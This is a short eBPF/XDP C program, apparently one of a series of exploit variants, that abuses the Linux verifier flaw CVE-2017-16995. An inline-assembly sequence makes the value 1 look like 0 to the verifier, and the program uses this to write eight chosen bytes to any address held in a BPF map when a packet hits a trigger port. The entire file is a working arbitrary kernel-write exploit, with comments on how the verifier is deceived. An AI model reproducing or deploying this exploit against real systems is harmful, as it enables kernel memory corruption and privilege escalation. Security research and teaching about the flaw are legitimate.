// SPDX-License-Identifier: GPL-2.0
/*
 * The same as (a), until a packet for PORT_TRIGGER: then it writes eight bytes to
 * whatever address the `target` map holds. A verifier with CVE-2017-16995 accepts it.
 */
#include "parse.h"

enum { WHERE, WHAT, SELF, WORDS };

struct {
	__uint(type, BPF_MAP_TYPE_ARRAY);
	__uint(max_entries, WORDS);
	__type(key, __u32);
	__type(value, __u64);
} target SEC(".maps");

static __always_inline volatile __u64 *word(__u32 key)
{
	return bpf_map_lookup_elem(&target, &key);
}

/*
 * Moves 32 bits of ones, adds 1, takes the upper half: 1. The verifier thought that the
 * move sets all 64 bits, and that nothing is left of them when 1 is added.
 */
static __always_inline __u64 one_taken_for_zero(void)
{
	__u64 number;

	asm volatile("w6 = -1\n"
		     "r6 += 1\n"
		     "r6 >>= 32\n"
		     "%0 = r6" : "=r"(number) : : "r6");
	return number;
}

SEC("xdp")
int xdp_rogue(struct xdp_md *ctx)
{
	volatile __u64 *where, *what, *self;
	__u32 port;
	int verdict = parse_and_count(ctx, &port);

	if (port != PORT_TRIGGER)
		return verdict;
	where = word(WHERE);
	what = word(WHAT);
	self = word(SELF);
	if (!where || !what || !self || !*where)
		return verdict;
	/* Its way from its own memory to the target's; to the verifier, 0 bytes. */
	*self = (__u64)self;
	*(volatile __u64 *)((void *)self + (*where - *self) * one_taken_for_zero()) = *what;
	return verdict;
}

char _license[] SEC("license") = "GPL";
